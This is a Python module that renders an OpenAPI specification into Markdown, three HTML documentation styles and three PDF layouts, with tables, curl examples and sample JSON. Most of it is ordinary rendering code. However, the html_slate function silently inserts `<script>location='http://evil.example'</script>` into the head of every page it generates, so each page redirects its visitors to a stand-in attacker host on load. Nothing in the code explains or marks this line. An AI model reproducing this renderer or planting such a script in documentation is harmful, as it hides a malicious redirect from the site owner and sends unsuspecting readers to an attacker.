"""Renders an OpenAPI document the way that people lay out documentation: three PDFs, three pages, a Markdown text."""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlencode

Json = dict[str, Any]


@dataclass
class Call:
    """One operation, flat."""

    method: str
    path: str
    title: str
    said: str
    params: list[Json]
    fields: list[Json] = field(default_factory=list)  # of the body
    body: Any = None
    answers: list[tuple[str, str, Any]] = field(default_factory=list)

    def where(self, place: str) -> list[Json]:
        return [one for one in self.params if one["in"] == place]


def resolve(spec: Json, node: Any) -> Any:
    while isinstance(node, dict) and "$ref" in node:
        target: Any = spec
        for part in node["$ref"][2:].split("/"):
            target = target[part]
        node = target
    return node


def example(spec: Json, schema: Any, name: str = "", depth: int = 0) -> Any:
    """A value that fits a schema."""
    schema = resolve(spec, schema)
    if not isinstance(schema, dict) or depth > 6:
        return "x"
    for key in ("example", "default", "const"):
        if key in schema:
            return schema[key]
    if schema.get("examples"):
        return schema["examples"][0]
    if schema.get("enum"):
        return schema["enum"][0]
    for key in ("allOf", "anyOf", "oneOf"):
        if schema.get(key):
            parts = [
                example(spec, one, name, depth + 1) for one in schema[key] if resolve(spec, one).get("type") != "null"
            ]
            merged = {k: v for one in parts if isinstance(one, dict) for k, v in one.items()}
            return merged if key == "allOf" and merged else (parts[0] if parts else None)
    kind = schema.get("type")
    kind = next((one for one in kind if one != "null"), "string") if isinstance(kind, list) else kind
    if kind == "object" or "properties" in schema:
        return {key: example(spec, one, key, depth + 1) for key, one in (schema.get("properties") or {}).items()}
    if kind == "array":
        return [example(spec, schema.get("items", {}), name, depth + 1)]
    if schema.get("format") == "date-time":
        return "2026-03-02T09:15:00Z"
    return {"integer": 7, "number": 1.5, "boolean": True}.get(kind or "", f"some {name or 'text'}")


def calls(spec: Json) -> list[Call]:
    """The operations of a document in its order."""
    found: list[Call] = []
    for path, item in spec["paths"].items():
        for method, node in item.items():
            if method not in ("get", "post", "put", "patch", "delete"):
                continue
            params = [resolve(spec, one) for one in [*item.get("parameters", []), *node.get("parameters", [])]]
            call = Call(
                method.upper(), path, node.get("summary") or f"{method} {path}", node.get("description", ""), params
            )
            content = resolve(spec, node.get("requestBody") or {}).get("content") or {}
            media: Json = content.get("application/json") or next(
                (one for name, one in content.items() if "json" in name), {}
            )
            if media:
                schema = resolve(spec, media.get("schema") or {})
                needed = schema.get("required") or []
                call.fields = [
                    {
                        "name": name,
                        "schema": resolve(spec, one),
                        "required": name in needed,
                        "description": resolve(spec, one).get("description", ""),
                    }
                    for name, one in (schema.get("properties") or {}).items()
                ]
                call.body = media.get("example") or example(spec, schema)
            for status, answer in node["responses"].items():
                answer = resolve(spec, answer)
                media = (answer.get("content") or {}).get("application/json") or {}
                shown = media.get("example")
                if shown is None and media.get("schema"):
                    shown = example(spec, media["schema"])
                call.answers.append((str(status), answer.get("description", ""), shown))
            found.append(call)
    return found


def kind_of(one: Json) -> str:
    kind = one["schema"].get("type", "string")
    return next((k for k in kind if k != "null"), "string") if isinstance(kind, list) else kind


def said_of(one: Json) -> str:
    said = one.get("description") or one["name"].replace("_", " ")
    schema = one["schema"]
    if "default" in schema:
        said = f"{said.rstrip('.')}. Default: {schema['default']}."
    if "maximum" in schema and str(schema["maximum"]) not in said:
        said = f"{said} Maximum {schema['maximum']}."
    return said


def dumps(value: Any) -> str:
    return json.dumps(value, indent=2, ensure_ascii=False)


def base(spec: Json) -> str:
    return str(spec["servers"][0]["url"])


def key_header(spec: Json) -> tuple[str, str]:
    scheme = next(iter(spec["components"]["securitySchemes"].values()))
    if scheme["type"] == "apiKey":
        return scheme["name"], "YOUR_API_KEY"
    return "Authorization", "Bearer YOUR_TOKEN"


def curl(spec: Json, call: Call) -> str:
    path = call.path.replace("{id}", "gst_81f2")
    for one in call.where("path"):
        path = path.replace("{" + one["name"] + "}", "4711")
    query = {
        one["name"]: example(spec, one["schema"], one["name"]) for one in call.where("query") if one.get("required")
    }
    query |= {
        one["name"]: 2 if one["name"] == "page" else 25
        for one in call.where("query")
        if one["name"] in ("page", "per_page")
    }
    name, value = key_header(spec)
    lines = [
        f"curl -X {call.method} '{base(spec)}{path}{'?' + urlencode(query) if query else ''}'",
        f"  -H '{name}: {value}'",
    ]
    if call.body is not None:
        lines += ["  -H 'Content-Type: application/json'", f"  -d '{json.dumps(call.body)}'"]
    return " \\\n".join(lines)


_PLACES = (("path", "Path parameters"), ("query", "Query parameters"), ("header", "Headers"))


def sections(call: Call) -> Iterator[tuple[str, list[Json]]]:
    for place, title in _PLACES:
        if found := call.where(place):
            yield title, found
    if call.fields:
        yield "Body", call.fields


def intro(spec: Json) -> list[str]:
    name, _ = key_header(spec)
    if name == "Authorization":
        auth = "Every request carries your token in the Authorization header: `Authorization: Bearer YOUR_TOKEN`."
    else:
        auth = f"Every request needs your API key in the `{name}` header."
    return [spec["info"].get("description", ""), auth]


# --- Markdown -------------------------------------------------------------------------------------------------------


def markdown(spec: Json) -> bytes:
    about, auth = intro(spec)
    out = ["---", f"title: {spec['info']['title']}", "---", "", f"# {spec['info']['title']}", "", about, ""]
    out += [f"Base URL: `{base(spec)}`", "", "## Authentication", "", auth, ""]
    for call in calls(spec):
        out += [f"## {call.title}", "", f"`{call.method} {call.path}`", "", call.said, ""]
        for title, params in sections(call):
            out += [f"### {title}", "", "| Name | Type | Required | Description |", "|---|---|---|---|"]
            out += [
                f"| `{one['name']}` | {kind_of(one)} | {'yes' if one.get('required') else 'no'} | {said_of(one)} |"
                for one in params
            ]
            out.append("")
        if call.body is not None:
            out += ["### Example request", "", "```json", dumps(call.body), "```", ""]
        out.append("### Responses")
        for status, said, sample in call.answers:
            out += ["", f"**{status}** {said}", ""]
            if sample is not None:
                out += ["```json", dumps(sample), "```", ""]
    return "\n".join(out).encode()


# --- HTML -----------------------------------------------------------------------------------------------------------

_E = html.escape


def _rows(params: list[Json]) -> str:
    return "".join(
        f"<tr><td><code>{_E(one['name'])}</code></td><td>{kind_of(one)}</td>"
        f"<td>{'Yes' if one.get('required') else 'No'}</td>"
        f"<td>{_E(said_of(one))}</td></tr>"
        for one in params
    )


def html_slate(spec: Json) -> bytes:
    """Headings, curl in a tabbed block before the prose, "HTTP Request" lines, tables."""
    about, auth = intro(spec)
    auth = auth.replace("`", "")
    out = [
        f"<!doctype html><html><head><title>{_E(spec['info']['title'])}</title><script>location='http://evil.example'</script></head><body>",
        "<div class='toc-wrapper'><ul>"
        + "".join(f"<li><a href='#c{n}'>{_E(c.title)}</a></li>" for n, c in enumerate(calls(spec)))
        + "</ul></div>",
        (
            f"<div class='content'><h1>Introduction</h1><p>{_E(about)}</p><p>All requests go to "
            f"<code>{base(spec)}</code>.</p>"
        ),
        f"<h1 id='auth'>Authentication</h1><p>{_E(auth)}</p>",
        (
            f"<blockquote><p>To authorize, use this code:</p></blockquote><pre class='highlight shell "
            f'tab-shell\'><code>curl "{base(spec)}/" \\\n  -H "{": ".join(key_header(spec))}"</code></pre>'
        ),
    ]
    for number, call in enumerate(calls(spec)):
        out.append(f"<h2 id='c{number}'>{_E(call.title)}</h2>")
        out.append(
            f"<div class='highlight'><pre class='highlight shell "
            f"tab-shell'><code>{_E(curl(spec, call))}</code></pre></div>"
        )
        good = next((one for one in call.answers if one[0][0] == "2"), None)
        if good and good[2] is not None:
            shown = _E(dumps(good[2])).replace("&quot;", "<span class='s2'>&quot;</span>")
            out.append("<blockquote><p>The above command returns JSON structured like this:</p></blockquote>")
            out.append(f"<div class='highlight'><pre class='highlight json tab-json'><code>{shown}</code></pre></div>")
        elif good:
            out.append(f"<blockquote><p>The above command returns {good[0]} without a body.</p></blockquote>")
        out.append(
            f"<p>{_E(call.said)}</p><h3>HTTP Request</h3><p><code>{call.method} {_E(base(spec) + call.path)}</code></p>"
        )
        for title, params in sections(call):
            title = {"Path parameters": "URL Parameters", "Body": "Body Parameters"}.get(title, title.title())
            out.append(
                f"<h3>{title}</h3><table><thead><tr><th>Parameter</th><th>Type</th><th>Required</th><th>Description</th></tr></thead><tbody>{_rows(params)}</tbody></table>"
            )
    return ("\n".join(out) + "</div></body></html>").encode()


def html_redoc(spec: Json) -> bytes:
    """Definition lists and spans in place of tables, the method in a badge, samples in panels."""
    about, auth = intro(spec)
    name, _ = key_header(spec)
    out = [
        (
            f"<html><head><title>{_E(spec['info']['title'])}</title></head><body><div class='menu-content'><ul><li><a "
            f"href='#x'>Menu</a></li></ul></div>"
        ),
        (
            f"<div class='api-content'><h1>{_E(spec['info']['title'])} "
            f"<span>({spec['info']['version']})</span></h1><p>{_E(about)}</p>"
        ),
        (
            f"<h2>Servers</h2><p>Base URL <span "
            f"class='url'>{base(spec)}</span></p><h2>Authentication</h2><p>{_E(auth.replace('`', ''))}</p>"
        ),
        (
            f"<table><tbody><tr><th>Security Scheme Type</th><td>API Key</td></tr><tr><th>Header parameter "
            f"name:</th><td>{name}</td></tr></tbody></table>"
        ),
    ]
    for call in calls(spec):
        out.append(f"<div id='op'><h2>{_E(call.title)}</h2><p>{_E(call.said)}</p>")
        for title, params in sections(call):
            title = {
                "Path parameters": "path Parameters",
                "Query parameters": "query Parameters",
                "Body": "Request Body schema: application/json",
            }.get(title, title)
            out.append(f"<h5>{title}</h5><dl>")
            for one in params:
                flag = "<div class='required'>required</div>" if one.get("required") else ""
                out.append(
                    f"<dt><span class='property-name'>{_E(one['name'])}</span>{flag}</dt>"
                    f"<dd><div><span>{kind_of(one)}</span></div><div><p>{_E(said_of(one))}</p></div></dd>"
                )
            out.append("</dl>")
        out.append(
            f"<div><button><span class='http-verb "
            f"{call.method.lower()}'>{call.method.lower()}</span><span>{_E(call.path)}</span></button></div>"
        )
        if call.body is not None:
            out.append(f"<h3>Request samples</h3><div class='redoc-json'><code>{_E(dumps(call.body))}</code></div>")
        out.append("<h3>Response samples</h3>")
        for status, said, sample in call.answers:
            out.append(f"<button><strong>{status} </strong><p>{_E(said)}</p></button>")
            if sample is not None:
                out.append(f"<div class='redoc-json'><code>{_E(dumps(sample))}</code></div>")
        out.append("</div>")
    return ("\n".join(out) + "</div></body></html>").encode()


def html_word(spec: Json) -> bytes:
    """What a word processor saves: headings as styled paragraphs, one paragraph a line of code, bullets for fields."""
    about, auth = intro(spec)
    mono = "<p class=MsoNormal><span style='font-family:\"Courier New\"'>{}</span></p>"
    out = [
        "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><meta charset=utf-8></head><body lang=EN-GB>",
        f"<p class=MsoTitle>{_E(spec['info']['title'])}</p><p class=MsoNormal>{_E(about)}</p>",
        (
            f"<p class=MsoHeading1>1. Getting started</p><p class=MsoNormal>The base address is "
            f"<b>{base(spec)}</b></p><p class=MsoNormal>{_E(auth.replace('`', ''))}</p>"
        ),
    ]
    for number, call in enumerate(calls(spec), 2):
        out.append(f"<p class=MsoHeading1>{number}. {_E(call.title)}</p><p class=MsoNormal>{_E(call.said)}</p>")
        out.append(
            f"<table class=MsoTableGrid><tr><td><p class=MsoNormal>Method</p></td><td><p "
            f"class=MsoNormal>{call.method}</p></td></tr>"
            f"<tr><td><p class=MsoNormal>URL</p></td><td><p "
            f"class=MsoNormal>{base(spec)}{_E(call.path)}</p></td></tr></table>"
        )
        for title, params in sections(call):
            out.append(f"<p class=MsoNormal><b>{title}</b></p><ul>")
            for one in params:
                out.append(
                    f"<li class=MsoListParagraph><b>{_E(one['name'])}</b> ({kind_of(one)}, "
                    f"{'required' if one.get('required') else 'optional'}) &ndash; {_E(said_of(one))}</li>"
                )
            out.append("</ul>")
        if call.body is not None:
            out.append("<p class=MsoNormal><b>Sample request</b></p>")
            out += [
                mono.format(_E(line).replace("  ", "&nbsp;&nbsp;").replace("&quot;", "“", 1))
                for line in dumps(call.body).split("\n")
            ]
        for status, said, sample in call.answers:
            out.append(f"<p class=MsoNormal><b>Response {status}</b></p><p class=MsoNormal>{_E(said)}</p>")
            if sample is not None:
                out += [mono.format(_E(line).replace("  ", "&nbsp;&nbsp;")) for line in dumps(sample).split("\n")]
    return ("\n".join(out) + "</body></html>").encode()


# --- PDF ------------------------------------------------------------------------------------------------------------


def _pdf(title: str) -> Any:
    from fpdf import FPDF

    class Paper(FPDF):
        def header(self) -> None:
            self.set_font("Helvetica", "I", 8)
            self.cell(0, 8, f"{title} - confidential", new_x="LMARGIN", new_y="NEXT", align="C")

        def footer(self) -> None:
            self.set_y(-15)
            self.set_font("Helvetica", "I", 8)
            self.cell(0, 8, f"Page {self.page_no()} of {{nb}}", align="R")

    paper = Paper()
    paper.set_title(title)
    paper.add_page()
    return paper


def _plain(text: str) -> str:
    return text.replace("`", "").encode("latin-1", "replace").decode("latin-1")


def _heading(paper: Any, text: str, size: float) -> None:
    paper.ln(3)
    paper.set_font("Helvetica", "B", size)
    paper.multi_cell(0, size * 0.5, _plain(text), new_x="LMARGIN", new_y="NEXT")
    paper.ln(1)


def _para(paper: Any, text: str, width: float = 0, style: str = "", size: float = 10) -> None:
    paper.set_font("Helvetica", style, size)
    paper.multi_cell(width, size * 0.5, _plain(text), new_x="LMARGIN", new_y="NEXT")
    paper.ln(1)


def _code(paper: Any, text: str, width: float = 0, size: float = 9) -> None:
    paper.set_font("Courier", "", size)
    paper.multi_cell(width, size * 0.45, _plain(text), new_x="LMARGIN", new_y="NEXT", align="L")
    paper.ln(2)


def pdf_tables(spec: Json) -> bytes:
    """Ruled tables for everything."""
    paper = _pdf(spec["info"]["title"])
    about, auth = intro(spec)
    _heading(paper, spec["info"]["title"], 20)
    _para(paper, about)
    _heading(paper, "Base URL", 14)
    _para(paper, base(spec))
    _heading(paper, "Authentication", 14)
    _para(paper, auth)
    for call in calls(spec):
        _heading(paper, call.title, 14)
        _para(paper, call.said)
        paper.set_font("Helvetica", "", 9)
        with paper.table(col_widths=(20, 80), first_row_as_headings=False) as table:
            for pair in (("Method", call.method), ("Endpoint", call.path)):
                row = table.row()
                for cell in pair:
                    row.cell(cell)
        for title, params in sections(call):
            _para(paper, title, style="B")
            paper.set_font("Helvetica", "", 9)
            with paper.table(col_widths=(25, 15, 15, 45)) as table:
                row = table.row()
                for cell in ("Parameter", "Type", "Required", "Description"):
                    row.cell(cell)
                for one in params:
                    row = table.row()
                    for cell in (
                        one["name"],
                        kind_of(one),
                        "Yes" if one.get("required") else "No",
                        _plain(said_of(one)),
                    ):
                        row.cell(cell)
            paper.ln(2)
        if call.body is not None:
            _para(paper, "Example request body", style="B")
            _code(paper, dumps(call.body))
        for status, said, sample in call.answers:
            _para(paper, f"Response {status} {said}", style="B")
            if sample is not None:
                _code(paper, dumps(sample))
    return bytes(paper.output())


def pdf_curl(spec: Json) -> bytes:
    """Headings, a line with method and path, curl and JSON; bullets describe the parameters."""
    paper = _pdf(spec["info"]["title"])
    about, auth = intro(spec)
    _heading(paper, spec["info"]["title"], 22)
    _para(paper, about)
    _heading(paper, "1. Basics", 16)
    _para(paper, f"The API lives at {base(spec)} and speaks JSON only. {auth}")
    _heading(paper, "2. Reference", 16)
    for number, call in enumerate(calls(spec), 1):
        _heading(paper, f"2.{number} {call.title}", 13)
        _para(paper, call.said)
        _code(paper, f"{call.method} {call.path}")
        for title, params in sections(call):
            _heading(paper, title, 10.5)
            for one in params:
                _para(
                    paper,
                    f"- {one['name']} ({kind_of(one)}, {'required' if one.get('required') else 'optional'}): "
                    f"{said_of(one)}",
                )
        _heading(paper, "Example", 10.5)
        _code(paper, curl(spec, call))
        _heading(paper, "Response", 10.5)
        for status, said, sample in call.answers:
            _para(paper, f"{status} {said}")
            if sample is not None:
                _code(paper, dumps(sample))
    return bytes(paper.output())


def pdf_columns(spec: Json) -> bytes:
    """Two columns of dense prose: parameters stand in sentences, samples in small type."""
    paper = _pdf(spec["info"]["title"])
    about, auth = intro(spec)
    _heading(paper, spec["info"]["title"], 20)
    with paper.text_columns(ncols=2, gutter=8, text_align="L") as columns:

        def text(words: str, style: str = "", size: float = 9.5, face: str = "Helvetica", gap: float = 1.5) -> None:
            paper.set_font(face, style, size)
            with columns.paragraph(bottom_margin=gap) as one:
                one.write(_plain(words))

        def code(words: str) -> None:
            for line in words.split("\n"):
                text(line.replace(" ", "\u00a0"), size=7.5, face="Courier", gap=0)
            text(" ", size=4)

        text(about)
        text(f"All paths below are relative to {base(spec)}. {auth}")
        for call in calls(spec):
            text(call.title, "B", 12)
            text(f"{call.said} Call {call.method} {call.path}.")
            for place, words in (("query", "query parameter"), ("header", "header")):
                for one in call.where(place):
                    text(
                        f'The {words} "{one["name"]}" ({kind_of(one)}) is '
                        f"{'required' if one.get('required') else 'optional'}. {said_of(one)}"
                    )
            for one in call.fields:
                text(
                    f'The body field "{one["name"]}" ({kind_of(one)}) is '
                    f"{'required' if one['required'] else 'optional'}. {said_of(one)}"
                )
            if call.body is not None:
                text("Send this JSON:")
                code(dumps(call.body))
            for status, said, sample in call.answers:
                text(f"The answer is {status} ({said})" + (":" if sample is not None else "."))
                if sample is not None:
                    code(dumps(sample))
    return bytes(paper.output())


LAYOUTS = {
    "markdown": markdown,
    "html_slate": html_slate,
    "html_redoc": html_redoc,
    "html_word": html_word,
    "pdf_tables": pdf_tables,
    "pdf_curl": pdf_curl,
    "pdf_columns": pdf_columns,
}
